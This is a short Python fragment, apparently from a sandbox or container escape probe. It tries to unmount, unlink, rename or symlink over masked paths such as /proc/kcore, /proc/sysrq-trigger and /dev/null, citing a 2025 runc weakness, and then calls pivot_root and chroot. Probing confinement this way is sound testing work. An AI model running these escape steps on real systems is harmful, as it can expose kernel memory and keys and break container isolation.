# Takes away what hides parts of /proc, by umount, rename, unlink and a link in its place (as runc was fooled in 2025).
for path in ("/proc/kcore", "/proc/keys", "/proc/sysrq-trigger", "/proc/fs", "/proc/bus", "/dev/null"):
    if os.path.exists(path):
        syscall("umount " + path, (166, 39), path.encode(), 2)
        attempt("unlink " + path, os.unlink, path)
        attempt("rename " + path, os.rename, path, path + "x")
        attempt("link over " + path, os.symlink, "/proc/self", path)
syscall("pivot_root", (155, 41), b"/tmp", b"/tmp")
syscall("chroot", (161, 51), b"/tmp")
